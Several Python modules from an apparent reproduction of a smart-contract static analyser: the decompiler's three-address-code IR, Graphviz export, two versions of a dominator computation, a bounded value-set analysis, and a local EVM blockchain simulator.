    # For blocks ending in JUMPI: which successor is the taken branch and
    # which is the fall-through (used by the guard analysis).
    taken_successor: Optional[str] = None
    fallthrough_successor: Optional[str] = None

    def __iter__(self) -> Iterator[TACStatement]:
        return iter(self.statements)


@dataclass
class TACProgram:
    """A decompiled contract: blocks, constants, and convenience indexes."""

    blocks: Dict[str, TACBlock] = field(default_factory=dict)
    entry: str = ""
    const_value: Dict[str, int] = field(default_factory=dict)
    # Public-function metadata discovered from the dispatcher.
    selector_targets: Dict[int, str] = field(default_factory=dict)  # selector -> block id
    unresolved_jumps: List[str] = field(default_factory=list)  # statement ids

    # ------------------------------------------------------------- indexes

    def statements(self) -> Iterator[TACStatement]:
        for block in self.blocks.values():
            yield from block.statements

    def statements_by_opcode(self, *opcodes: str) -> List[TACStatement]:
        wanted = set(opcodes)
        return [s for s in self.statements() if s.opcode in wanted]

    def defining_statement(self) -> Dict[str, TACStatement]:
        """Map each variable to the unique statement defining it."""
        defined: Dict[str, TACStatement] = {}
        for stmt in self.statements():
            for var in stmt.defs:
                defined[var] = stmt
        return defined

    def uses_of(self) -> Dict[str, List[TACStatement]]:
        """Map each variable to the statements using it."""
        index: Dict[str, List[TACStatement]] = {}
        for stmt in self.statements():
            for var in stmt.uses:
                index.setdefault(var, []).append(stmt)
        return index

    def block_of(self, statement_id: str) -> Optional[TACBlock]:
        for block in self.blocks.values():
            for stmt in block.statements:
                if stmt.ident == statement_id:
                    return block
        return None

    def edges(self) -> List[Tuple[str, str]]:
        return [
            (block.ident, successor)
            for block in self.blocks.values()
            for successor in block.successors
        ]

    def variables(self) -> Set[str]:
        names: Set[str] = set()
        for stmt in self.statements():
            names.update(stmt.defs)
            names.update(stmt.uses)
        return names

    def __str__(self) -> str:
        lines: List[str] = []
        for ident in sorted(self.blocks, key=lambda b: self.blocks[b].offset):
            block = self.blocks[ident]
            lines.append(
                "block %s (0x%x) -> [%s]"
                % (ident, block.offset, ", ".join(block.successors))
            )
            for stmt in block.statements:
                suffix = ""
                if stmt.opcode == "CONST" and stmt.def_var in self.const_value:
                    suffix = "  ; 0x%x" % self.const_value[stmt.def_var]
                lines.append("    %s%s" % (stmt, suffix))
        return "\n".join(lines)
