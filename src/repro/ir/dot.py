"""Graphviz export of decompiled control-flow graphs.

Produces ``.dot`` text for a :class:`~repro.ir.tac.TACProgram`, used by the
CLI's ``decompile --dot`` flag and handy when debugging lifter output.
"""

from __future__ import annotations

from typing import List, Optional, Set

from repro.ir.tac import TACProgram

_INTERESTING = {
    "SELFDESTRUCT",
    "DELEGATECALL",
    "STATICCALL",
    "CALL",
    "SSTORE",
    "SLOAD",
    "CALLDATALOAD",
    "CALLER",
    "SHA3",
    "JUMPI",
}


def _escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def to_dot(
    program: TACProgram,
    highlight_statements: Optional[Set[str]] = None,
    max_statements_per_block: int = 12,
) -> str:
    """Render the block graph as Graphviz dot.

    ``highlight_statements`` (e.g. flagged statement ids) are marked in red.
    Long blocks are elided past ``max_statements_per_block`` lines.
    """
    highlight = highlight_statements or set()
    lines: List[str] = [
        "digraph tac {",
        '  node [shape=box, fontname="monospace", fontsize=9];',
    ]
    for block in program.blocks.values():
        rows = []
        shown = block.statements[:max_statements_per_block]
        for stmt in shown:
            marker = " (!)" if stmt.ident in highlight else ""
            if stmt.opcode in _INTERESTING or stmt.ident in highlight:
                rows.append(_escape(str(stmt)) + marker)
        elided = len(block.statements) - len(shown)
        header = "%s @0x%x (%d stmts)" % (block.ident, block.offset, len(block.statements))
        body = "\\l".join([header] + rows)
        if elided > 0:
            body += "\\l... %d more" % elided
        color = (
            ', color=red, penwidth=2'
            if any(stmt.ident in highlight for stmt in block.statements)
            else ""
        )
        style = ', style=bold' if block.ident == program.entry else ""
        lines.append('  "%s" [label="%s\\l"%s%s];' % (block.ident, body, color, style))
    for block in program.blocks.values():
        for successor in block.successors:
            attributes = ""
            if successor == block.taken_successor:
                attributes = ' [label="T"]'
            elif successor == block.fallthrough_successor:
                attributes = ' [label="F"]'
            lines.append('  "%s" -> "%s"%s;' % (block.ident, successor, attributes))
    lines.append("}")
    return "\n".join(lines)
