"""Dominator computation on block graphs.

Used by the guard analysis: a ``require``-style branch guards exactly the
blocks dominated by its protected successor.  The implementation is the
Cooper–Harvey–Kennedy algorithm ("A Simple, Fast Dominance Algorithm"):
immediate dominators are computed by intersecting predecessor idoms in
reverse postorder, which converges in a couple of passes on reducible
contract CFGs — replacing the previous O(n²)-set iterative dataflow.
Full dominator sets are then materialized by walking the idom chains
(:func:`compute_dominators` keeps the historical full-set return shape).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Mapping, Optional, Set


def _reverse_postorder(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> List[str]:
    """Reverse postorder over the nodes reachable from ``entry``
    (iterative DFS; unreachable nodes are simply never visited)."""
    postorder: List[str] = []
    visited: Set[str] = set()
    stack: List[tuple] = [(entry, iter(successors.get(entry, ())))]
    visited.add(entry)
    while stack:
        node, successor_iter = stack[-1]
        advanced = False
        for successor in successor_iter:
            if successor not in visited:
                visited.add(successor)
                stack.append((successor, iter(successors.get(successor, ()))))
                advanced = True
                break
        if not advanced:
            stack.pop()
            postorder.append(node)
    postorder.reverse()
    return postorder


def immediate_dominators(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Optional[str]]:
    """Immediate dominator of each reachable node (``None`` for the entry).

    Cooper–Harvey–Kennedy: process nodes in reverse postorder, intersecting
    the already-computed idoms of processed predecessors by walking up the
    idom chains in postorder rank.
    """
    order = _reverse_postorder(entry, successors)
    rank = {node: position for position, node in enumerate(order)}

    predecessors: Dict[str, List[str]] = {node: [] for node in order}
    for node in order:
        for successor in successors.get(node, ()):
            if successor in rank:
                predecessors[successor].append(node)

    # idom[node] maps to the node itself for the entry while iterating
    # (the classic formulation); translated to None on return.
    idom: Dict[str, str] = {entry: entry}

    def intersect(a: str, b: str) -> str:
        while a != b:
            while rank[a] > rank[b]:
                a = idom[a]
            while rank[b] > rank[a]:
                b = idom[b]
        return a

    changed = True
    while changed:
        changed = False
        for node in order[1:]:
            new_idom: Optional[str] = None
            for pred in predecessors[node]:
                if pred not in idom:
                    continue  # not processed yet this round
                new_idom = pred if new_idom is None else intersect(pred, new_idom)
            if new_idom is not None and idom.get(node) != new_idom:
                idom[node] = new_idom
                changed = True

    result: Dict[str, Optional[str]] = {node: idom.get(node) for node in order}
    result[entry] = None
    return result


def compute_dominators(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Set[str]]:
    """Full dominator sets: ``dom[b]`` = blocks dominating ``b`` (incl. b).

    Nodes unreachable from ``entry`` are omitted from the result.  Built by
    walking the CHK idom chains, memoized top-down in reverse postorder so
    each set is its idom's set plus the node itself.
    """
    idom = immediate_dominators(entry, successors)
    dom: Dict[str, Set[str]] = {}
    for node in _reverse_postorder(entry, successors):
        parent = idom[node]
        if parent is None:
            dom[node] = {node}
        else:
            dom[node] = set(dom[parent])
            dom[node].add(node)
    return dom


def dominance_frontier(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Set[str]]:
    """Dominance frontier per node (the standard CHK local computation:
    for each join point, walk each predecessor's idom chain up to the join
    point's idom, adding the join point to every frontier passed)."""
    idom = immediate_dominators(entry, successors)
    predecessors: Dict[str, Set[str]] = {node: set() for node in idom}
    for node in idom:
        for succ in successors.get(node, ()):
            if succ in predecessors:
                predecessors[succ].add(node)
    frontier: Dict[str, Set[str]] = {node: set() for node in idom}
    for node in idom:
        preds = predecessors[node]
        if len(preds) < 2:
            continue
        for pred in preds:
            runner: Optional[str] = pred
            while runner is not None and runner != idom.get(node):
                frontier[runner].add(node)
                runner = idom.get(runner)
    return frontier
