"""Dominator computation on block graphs.

Used by the guard analysis: a ``require``-style branch guards exactly the
blocks dominated by its protected successor.  The implementation is the
classic iterative dataflow formulation (adequate for contract-sized CFGs).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Mapping, Optional, Set


def compute_dominators(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Set[str]]:
    """Full dominator sets: ``dom[b]`` = blocks dominating ``b`` (incl. b).

    Nodes unreachable from ``entry`` are omitted from the result.
    """
    # Collect reachable nodes.
    reachable: List[str] = []
    seen: Set[str] = set()
    stack = [entry]
    while stack:
        node = stack.pop()
        if node in seen:
            continue
        seen.add(node)
        reachable.append(node)
        stack.extend(successors.get(node, ()))

    predecessors: Dict[str, Set[str]] = {node: set() for node in reachable}
    for node in reachable:
        for succ in successors.get(node, ()):
            if succ in predecessors:
                predecessors[succ].add(node)

    all_nodes = set(reachable)
    dom: Dict[str, Set[str]] = {node: set(all_nodes) for node in reachable}
    dom[entry] = {entry}

    changed = True
    while changed:
        changed = False
        for node in reachable:
            if node == entry:
                continue
            preds = predecessors[node]
            if preds:
                new_dom: Optional[Set[str]] = None
                for pred in preds:
                    new_dom = set(dom[pred]) if new_dom is None else new_dom & dom[pred]
                assert new_dom is not None
                new_dom.add(node)
            else:
                new_dom = {node}
            if new_dom != dom[node]:
                dom[node] = new_dom
                changed = True
    return dom


def immediate_dominators(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Optional[str]]:
    """Immediate dominator of each reachable node (``None`` for the entry)."""
    dom = compute_dominators(entry, successors)
    idom: Dict[str, Optional[str]] = {}
    for node, dominators in dom.items():
        if node == entry:
            idom[node] = None
            continue
        strict = dominators - {node}
        # The immediate dominator is the strict dominator that is itself
        # dominated by every other strict dominator (the "closest" one).
        best = None
        for candidate in strict:
            if all(other in dom[candidate] for other in strict):
                best = candidate
        idom[node] = best
    return idom


def dominance_frontier(
    entry: str, successors: Mapping[str, Iterable[str]]
) -> Dict[str, Set[str]]:
    """Dominance frontier per node (standard definition)."""
    dom = compute_dominators(entry, successors)
    idom = immediate_dominators(entry, successors)
    predecessors: Dict[str, Set[str]] = {node: set() for node in dom}
    for node in dom:
        for succ in successors.get(node, ()):
            if succ in predecessors:
                predecessors[succ].add(node)
    frontier: Dict[str, Set[str]] = {node: set() for node in dom}
    for node in dom:
        preds = predecessors[node]
        if len(preds) < 2:
            continue
        for pred in preds:
            runner: Optional[str] = pred
            while runner is not None and runner != idom.get(node):
                frontier[runner].add(node)
                runner = idom.get(runner)
    return frontier
