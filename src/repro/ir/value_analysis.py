"""Intraprocedural constant propagation + bounded value-set analysis.

The Gigahorse toolchain the paper builds on resolves most storage indices
through constant folding and partial evaluation inside the decompiler; our
lifter only folds operations whose operands are *directly* constant on the
symbolic stack.  Computed indices — ``base + offset``, masked constants,
comparison results used as array indices, constants spilled through memory
locals — therefore reach the storage model unresolved and fall into the
``StorageWrite-2`` over-approximation.

This module closes that gap as a separate static stratum over the lifted
TAC: every variable is mapped to a *bounded set* of possible 256-bit values
(``TOP`` = unknown), computed as a monotone fixpoint:

* ``CONST v``            -> the singleton set,
* ``PHI``                -> union of the incoming sets,
* ``ADD``/``MUL``/``SUB``/``AND``/``OR``/``XOR``/``SHL``/``SHR`` ->
  element-wise evaluation over the operand sets (masked to 256 bits,
  widened to ``TOP`` past a size cap),
* ``ISZERO``/``EQ``/``LT``/``GT``/``SLT``/``SGT`` -> evaluated exactly when
  the operands are bounded, and — the key widening rule — ``{0, 1}`` even
  when an operand is ``TOP``: a comparison over attacker data still has a
  two-point range, which is what makes tainted-but-bounded storage indices
  resolvable,
* ``MLOAD`` at a constant address -> the union of every value stored to
  that address by a constant-address ``MSTORE`` (plus ``0`` for the
  never-written case), tracking Solidity's memory-spilled locals; any write
  through an unknown address (or ``MSTORE8``/call-clobbered memory) widens
  the affected words to ``TOP``.

Everything else (environment opcodes, ``CALLDATALOAD``, ``SLOAD``,
``SHA3``, call results) is ``TOP``.  The analysis is flow-insensitive over
memory (like the facts-layer memory model) and sound with respect to it:
a bounded set always contains the concrete runtime value.

The result is exported as the ``VariableValues`` relation on
:class:`~repro.core.facts.ContractFacts` and consumed by the storage,
guard, and taint strata.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, FrozenSet, List, Optional, Tuple

from repro.ir.tac import TACProgram

UINT_MAX = (1 << 256) - 1
_SIGN_BIT = 1 << 255

# A value set is a frozenset of ints (bounded) or None (TOP / unknown).
# Variables absent from the map are "bottom" (never assigned / unreachable).
ValueSet = Optional[FrozenSet[int]]

TOP: ValueSet = None

BOOL_SET: FrozenSet[int] = frozenset((0, 1))

# Default widening caps: a set larger than MAX_SET_SIZE becomes TOP, and a
# pairwise evaluation is not attempted over more than MAX_PRODUCT pairs.
MAX_SET_SIZE = 8
MAX_PRODUCT = 64


def _signed(value: int) -> int:
    return value - (1 << 256) if value & _SIGN_BIT else value


# Arithmetic/bitwise ops evaluated pointwise over bounded operand sets.
# Operands are in stack order, matching the lifter's folding semantics
# (SHL/SHR take the shift amount first).
_ARITH_OPS: Dict[str, Callable[[int, int], int]] = {
    "ADD": lambda a, b: (a + b) & UINT_MAX,
    "SUB": lambda a, b: (a - b) & UINT_MAX,
    "MUL": lambda a, b: (a * b) & UINT_MAX,
    "AND": lambda a, b: a & b,
    "OR": lambda a, b: a | b,
    "XOR": lambda a, b: a ^ b,
    "SHL": lambda a, b: (b << a) & UINT_MAX if a < 256 else 0,
    "SHR": lambda a, b: b >> a if a < 256 else 0,
}

# Comparisons have a {0, 1} range even over TOP operands.
_COMPARE_OPS: Dict[str, Callable[[int, int], int]] = {
    "EQ": lambda a, b: 1 if a == b else 0,
    "LT": lambda a, b: 1 if a < b else 0,
    "GT": lambda a, b: 1 if a > b else 0,
    "SLT": lambda a, b: 1 if _signed(a) < _signed(b) else 0,
    "SGT": lambda a, b: 1 if _signed(a) > _signed(b) else 0,
}

# Memory-clobbering opcodes: any of these forces every memory word to TOP
# (the call family may write its output buffer anywhere we cannot see).
_MEMORY_CLOBBERS = {"CALL", "CALLCODE", "DELEGATECALL", "STATICCALL"}


class _Unset:
    __slots__ = ()


_UNSET = _Unset()


@dataclass
class ValueAnalysis:
    """Fixpoint output: bounded value sets per variable and memory word."""

    values: Dict[str, FrozenSet[int]] = field(default_factory=dict)
    memory_values: Dict[int, FrozenSet[int]] = field(default_factory=dict)
    # False when an unknown-address write / MSTORE8 / external call made the
    # whole memory TOP (memory_values is then empty).
    memory_sound: bool = True
    iterations: int = 0

    def value_set(self, variable: str) -> ValueSet:
        """The bounded set for ``variable``, or TOP (None)."""
        return self.values.get(variable)

    def singleton(self, variable: str) -> Optional[int]:
        """The single possible value of ``variable``, if exactly one."""
        values = self.values.get(variable)
        if values is not None and len(values) == 1:
            return next(iter(values))
        return None

    def exported(self) -> Dict[str, FrozenSet[int]]:
        """The ``VariableValues`` relation: every bounded, non-empty set."""
        return {var: values for var, values in self.values.items() if values}


def _eval_pairwise(
    op: Callable[[int, int], int],
    left: FrozenSet[int],
    right: FrozenSet[int],
    max_set_size: int,
) -> ValueSet:
    if len(left) * len(right) > MAX_PRODUCT:
        return TOP
    result = frozenset(op(a, b) for a in left for b in right)
    if len(result) > max_set_size:
        return TOP
    return result


def analyze_values(
    program: TACProgram,
    deadline: Optional[object] = None,
    max_set_size: int = MAX_SET_SIZE,
) -> ValueAnalysis:
    """Run the bounded value-set fixpoint over ``program``.

    ``deadline`` is the usual duck-typed cooperative budget (``check()``
    raises when spent), consulted once per sweep.
    """
    analysis = ValueAnalysis()
    const = program.const_value

    # ------------------------------------------------------------- pre-scan
    # Memory model: constant-address stores per word, soundness flag.
    mem_writes: Dict[int, List[str]] = {}  # address -> stored vars
    statements = list(program.statements())
    memory_sound = True
    for stmt in statements:
        op = stmt.opcode
        if op == "MSTORE":
            address = const.get(stmt.uses[0])
            if address is None:
                memory_sound = False
            else:
                mem_writes.setdefault(address, []).append(stmt.uses[1])
        elif op == "MSTORE8":
            memory_sound = False
        elif op == "CALLDATACOPY":
            # Constant-destination copies write unknown (calldata) words at
            # known addresses; an unknown destination poisons everything.
            dest = const.get(stmt.uses[0])
            size = const.get(stmt.uses[2])
            if dest is None or size is None:
                memory_sound = False
            else:
                for word in range(min(size // 32 + 1, 64)):
                    mem_writes.setdefault(dest + 32 * word, []).append("")
        elif op in _MEMORY_CLOBBERS:
            memory_sound = False
    analysis.memory_sound = memory_sound

    # ------------------------------------------------------------- fixpoint
    # ``values`` maps var -> frozenset (bounded) | None (TOP); absent =
    # bottom.  Sets only grow (and widen to TOP), so iteration terminates.
    values: Dict[str, ValueSet] = {}
    memory: Dict[int, ValueSet] = {}

    def widen(current: ValueSet, update: ValueSet) -> ValueSet:
        """Join ``update`` into ``current`` (monotone)."""
        if update is TOP or current is TOP:
            return TOP
        merged = current | update if current is not None else update
        if len(merged) > max_set_size:
            return TOP
        return merged

    def assign(variable: str, update: ValueSet) -> bool:
        """Merge ``update`` into ``variable``; True when something changed."""
        if variable not in values:
            values[variable] = update
            return True
        current = values[variable]
        merged = widen(current, update)
        if merged != current:
            values[variable] = merged
            return True
        return False

    def memory_value(address: int) -> ValueSet:
        if not memory_sound:
            return TOP
        cached = memory.get(address, _UNSET)
        if cached is not _UNSET:
            return cached
        # {0} for the never-written case, then every stored value.
        result: ValueSet = frozenset((0,))
        for stored in mem_writes.get(address, ()):
            if stored == "":  # calldata copy: unknown word
                result = TOP
                break
            result = widen(result, values.get(stored, frozenset()))
            if result is TOP:
                break
        memory[address] = result
        return result

    changed = True
    while changed:
        changed = False
        analysis.iterations += 1
        if deadline is not None and hasattr(deadline, "check"):
            deadline.check()
        # Memory is recomputed from scratch each sweep: it depends on the
        # variable sets, which only grow, so this is monotone too.
        memory.clear()
        for stmt in statements:
            op = stmt.opcode
            target = stmt.def_var
            if target is None:
                continue
            if op == "CONST":
                value = const.get(target)
                update: ValueSet = frozenset((value,)) if value is not None else TOP
                changed |= assign(target, update)
            elif op == "PHI":
                merged: ValueSet = frozenset()
                saw_operand = False
                for source in stmt.uses:
                    source_values = values.get(source, _UNSET)
                    if source_values is _UNSET:
                        continue  # bottom operand contributes nothing yet
                    saw_operand = True
                    merged = widen(merged, source_values)
                    if merged is TOP:
                        break
                if saw_operand:
                    changed |= assign(target, merged)
            elif op in _ARITH_OPS and len(stmt.uses) == 2:
                left = values.get(stmt.uses[0], _UNSET)
                right = values.get(stmt.uses[1], _UNSET)
                if left is _UNSET or right is _UNSET:
                    continue  # bottom operand: stay bottom
                if left is TOP or right is TOP:
                    changed |= assign(target, TOP)
                else:
                    changed |= assign(
                        target,
                        _eval_pairwise(_ARITH_OPS[op], left, right, max_set_size),
                    )
            elif op in _COMPARE_OPS and len(stmt.uses) == 2:
                left = values.get(stmt.uses[0], _UNSET)
                right = values.get(stmt.uses[1], _UNSET)
                if left is _UNSET or right is _UNSET:
                    continue
                if left is TOP or right is TOP:
                    changed |= assign(target, BOOL_SET)
                else:
                    result = _eval_pairwise(
                        _COMPARE_OPS[op], left, right, max_set_size
                    )
                    changed |= assign(target, result if result is not TOP else BOOL_SET)
            elif op == "ISZERO":
                operand = values.get(stmt.uses[0], _UNSET)
                if operand is _UNSET:
                    continue
                if operand is TOP:
                    changed |= assign(target, BOOL_SET)
                else:
                    changed |= assign(
                        target, frozenset(1 if v == 0 else 0 for v in operand)
                    )
            elif op == "NOT":
                operand = values.get(stmt.uses[0], _UNSET)
                if operand is _UNSET:
                    continue
                if operand is TOP:
                    changed |= assign(target, TOP)
                else:
                    changed |= assign(target, frozenset(v ^ UINT_MAX for v in operand))
            elif op == "MLOAD":
                address = const.get(stmt.uses[0])
                if address is None:
                    changed |= assign(target, TOP)
                else:
                    changed |= assign(target, memory_value(address))
            else:
                # Environment values, calldata, storage loads, hashes, call
                # results: unknown.
                changed |= assign(target, TOP)

    analysis.values = {
        var: value_set for var, value_set in values.items() if value_set is not None
    }
    if memory_sound:
        analysis.memory_values = {
            address: value_set
            for address, value_set in memory.items()
            if value_set is not None
        }
    return analysis
