"""Three-address-code IR shared by the decompiler and the analyses."""

from repro.ir.tac import TACBlock, TACProgram, TACStatement
from repro.ir.dominators import compute_dominators, dominance_frontier, immediate_dominators

__all__ = [
    "TACStatement",
    "TACBlock",
    "TACProgram",
    "compute_dominators",
    "immediate_dominators",
    "dominance_frontier",
]
