"""World state: accounts, balances, code, and storage.

Snapshots are implemented by copy-on-demand deep copies of the account map.
This is O(state size) per snapshot, which is perfectly adequate for the
corpus-scale simulations in this reproduction (the paper's node, of course,
used a Merkle-Patricia trie — irrelevant to the analysis being studied).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.evm.hashing import keccak_int

ADDRESS_MASK = (1 << 160) - 1


@dataclass
class Account:
    """One account: externally owned if ``code`` is empty, contract otherwise."""

    balance: int = 0
    nonce: int = 0
    code: bytes = b""
    storage: Dict[int, int] = field(default_factory=dict)
    destroyed: bool = False


class WorldState:
    """Mutable mapping of addresses to accounts, with snapshot/rollback."""

    def __init__(self) -> None:
        self._accounts: Dict[int, Account] = {}
        self._snapshots: List[Dict[int, Account]] = []

    # ------------------------------------------------------------- accounts

    def account(self, address: int) -> Account:
        """The account record at ``address``, creating it if absent."""
        address &= ADDRESS_MASK
        if address not in self._accounts:
            self._accounts[address] = Account()
        return self._accounts[address]

    def account_exists(self, address: int) -> bool:
        """Whether an account record exists at ``address``."""
        return (address & ADDRESS_MASK) in self._accounts

    def create_account(self, address: int, balance: int = 0) -> Account:
        """Ensure an account exists at ``address``, crediting ``balance``."""
        account = self.account(address)
        account.balance += balance
        return account

    def addresses(self) -> List[int]:
        """All account addresses currently in the state."""
        return list(self._accounts)

    # ----------------------------------------------------- backend protocol

    def get_code(self, address: int) -> bytes:
        """Runtime code (empty for EOAs and destroyed contracts)."""
        account = self._accounts.get(address & ADDRESS_MASK)
        if account is None or account.destroyed:
            return b""
        return account.code

    def set_code(self, address: int, code: bytes) -> None:
        """Install runtime code at ``address``."""
        self.account(address).code = code

    def get_storage(self, address: int, key: int) -> int:
        """Storage word at ``key`` (0 when unset or destroyed)."""
        account = self._accounts.get(address & ADDRESS_MASK)
        if account is None or account.destroyed:
            return 0
        return account.storage.get(key, 0)

    def set_storage(self, address: int, key: int, value: int) -> None:
        """Set a storage word (zero values delete the key)."""
        storage = self.account(address).storage
        if value == 0:
            storage.pop(key, None)
        else:
            storage[key] = value

    def get_balance(self, address: int) -> int:
        """Balance in wei (0 for unknown accounts)."""
        account = self._accounts.get(address & ADDRESS_MASK)
        return 0 if account is None else account.balance

    def set_balance(self, address: int, value: int) -> None:
        """Set the balance in wei."""
        self.account(address).balance = value

    def mark_destroyed(self, address: int) -> None:
        """Record a selfdestruct: clears code and storage."""
        account = self.account(address)
        account.destroyed = True
        account.code = b""
        account.storage = {}

    def is_destroyed(self, address: int) -> bool:
        """Whether the contract at ``address`` has selfdestructed."""
        account = self._accounts.get(address & ADDRESS_MASK)
        return bool(account and account.destroyed)

    def next_contract_address(
        self, creator: int, salt: Optional[int], init_code: bytes
    ) -> int:
        """Deterministic new-contract address (CREATE / CREATE2 flavors)."""
        nonce = self.account(creator).nonce
        if salt is None:
            seed = creator.to_bytes(20, "big") + nonce.to_bytes(8, "big")
        else:
            seed = (
                b"\xff"
                + creator.to_bytes(20, "big")
                + salt.to_bytes(32, "big")
                + init_code
            )
        self.account(creator).nonce += 1
        return keccak_int(seed) & ADDRESS_MASK

    # ------------------------------------------------------------ snapshots

    def snapshot(self) -> int:
        """Record the current state; returns a token for :meth:`revert_to`."""
        self._snapshots.append(copy.deepcopy(self._accounts))
        return len(self._snapshots) - 1

    def revert_to(self, token: int) -> None:
        """Restore the state recorded at ``token`` and drop later snapshots."""
        self._accounts = self._snapshots[token]
        del self._snapshots[token:]

    def commit(self, token: int) -> None:
        """Drop ``token`` and any later snapshots, keeping current state."""
        del self._snapshots[token:]

    def discard_snapshots(self) -> None:
        """Drop every snapshot (keeps the current state)."""
        self._snapshots.clear()
