"""A minimal blockchain node simulator.

Provides the deployment / transaction / read-only-call interface that
:mod:`repro.kill` (Ethainter-Kill) and the examples use in place of a live
Ethereum node.  Every transaction executes immediately in its own "block";
there is no mempool, mining, or fork choice, none of which matter for the
experiments being reproduced.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Set

from repro.chain.state import WorldState
from repro.evm.machine import CallContext, ExecutionResult, Machine

DEFAULT_GAS = 10_000_000


@dataclass
class Transaction:
    """One submitted transaction."""

    sender: int
    to: Optional[int]  # None for contract creation
    value: int = 0
    data: bytes = b""
    gas: int = DEFAULT_GAS


@dataclass
class Receipt:
    """Outcome of a mined transaction."""

    transaction: Transaction
    block_number: int
    success: bool
    gas_used: int
    return_data: bytes = b""
    contract_address: Optional[int] = None
    error: Optional[str] = None
    destroyed: Set[int] = field(default_factory=set)
    result: Optional[ExecutionResult] = None


class Blockchain:
    """World state plus a transaction log, advancing one block per tx."""

    def __init__(self) -> None:
        self.state = WorldState()
        self.block_number = 0
        self.timestamp = 1_600_000_000
        self.receipts: List[Receipt] = []

    # ------------------------------------------------------------- funding

    def fund(self, address: int, amount: int) -> None:
        """Credit an externally-owned account (faucet)."""
        self.state.set_balance(address, self.state.get_balance(address) + amount)

    # ------------------------------------------------------------ mutation

    def deploy(
        self,
        sender: int,
        init_code: bytes,
        value: int = 0,
        gas: int = DEFAULT_GAS,
    ) -> Receipt:
        """Run ``init_code`` as a creation transaction; store its return value
        as the new contract's runtime code."""
        transaction = Transaction(sender=sender, to=None, value=value, data=init_code, gas=gas)
        return self._mine(transaction)

    def transact(
        self,
        sender: int,
        to: int,
        data: bytes = b"",
        value: int = 0,
        gas: int = DEFAULT_GAS,
    ) -> Receipt:
        """Submit a message call transaction."""
        transaction = Transaction(sender=sender, to=to, value=value, data=data, gas=gas)
        return self._mine(transaction)

    def call(
        self,
        sender: int,
        to: int,
        data: bytes = b"",
        gas: int = DEFAULT_GAS,
    ) -> ExecutionResult:
        """Read-only call: executes and then rolls every change back."""
        snapshot = self.state.snapshot()
        machine = Machine(self.state, self.block_number + 1, self.timestamp)
        result = machine.execute(
            CallContext(
                address=to,
                caller=sender,
                origin=sender,
                value=0,
                calldata=data,
                code=self.state.get_code(to),
                gas=gas,
            )
        )
        self.state.revert_to(snapshot)
        return result

    # ------------------------------------------------------------ internals

    def _mine(self, transaction: Transaction) -> Receipt:
        self.block_number += 1
        self.timestamp += 13
        machine = Machine(self.state, self.block_number, self.timestamp)

        if transaction.value:
            sender_balance = self.state.get_balance(transaction.sender)
            if sender_balance < transaction.value:
                receipt = Receipt(
                    transaction=transaction,
                    block_number=self.block_number,
                    success=False,
                    gas_used=0,
                    error="insufficient funds",
                )
                self.receipts.append(receipt)
                return receipt

        if transaction.to is None:
            address = self.state.next_contract_address(
                transaction.sender, None, transaction.data
            )
            self.state.create_account(address)
            self._transfer(transaction.sender, address, transaction.value)
            result = machine.execute(
                CallContext(
                    address=address,
                    caller=transaction.sender,
                    origin=transaction.sender,
                    value=transaction.value,
                    calldata=b"",
                    code=transaction.data,
                    gas=transaction.gas,
                )
            )
            contract_address: Optional[int] = None
            if result.success:
                self.state.set_code(address, result.return_data)
                contract_address = address
            elif transaction.value:
                # Failed creations refund the endowment.
                self._transfer(address, transaction.sender, transaction.value)
            receipt = Receipt(
                transaction=transaction,
                block_number=self.block_number,
                success=result.success,
                gas_used=result.gas_used,
                return_data=b"",
                contract_address=contract_address,
                error=result.error,
                destroyed=result.destroyed,
                result=result,
            )
        else:
            self._transfer(transaction.sender, transaction.to, transaction.value)
            result = machine.execute(
                CallContext(
                    address=transaction.to,
                    caller=transaction.sender,
                    origin=transaction.sender,
                    value=transaction.value,
                    calldata=transaction.data,
                    code=self.state.get_code(transaction.to),
                    gas=transaction.gas,
                )
            )
            if not result.success and transaction.value:
                # Failed calls refund the transferred value.
                self._transfer(transaction.to, transaction.sender, transaction.value)
            receipt = Receipt(
                transaction=transaction,
                block_number=self.block_number,
                success=result.success,
                gas_used=result.gas_used,
                return_data=result.return_data,
                error=result.error,
                destroyed=result.destroyed,
                result=result,
            )
        self.receipts.append(receipt)
        return receipt

    def _transfer(self, sender: int, recipient: int, amount: int) -> None:
        if amount == 0:
            return
        self.state.set_balance(sender, self.state.get_balance(sender) - amount)
        self.state.set_balance(recipient, self.state.get_balance(recipient) + amount)
