"""Local blockchain simulator: world state, accounts, and transactions.

Stands in for the live Ethereum/Ropsten networks used in the paper's
Experiment 1.  Provides just enough of a node's behaviour for deployment,
transaction execution, and trace inspection.
"""

from repro.chain.state import Account, WorldState
from repro.chain.blockchain import Blockchain, Receipt, Transaction

__all__ = [
    "Account",
    "WorldState",
    "Blockchain",
    "Transaction",
    "Receipt",
]
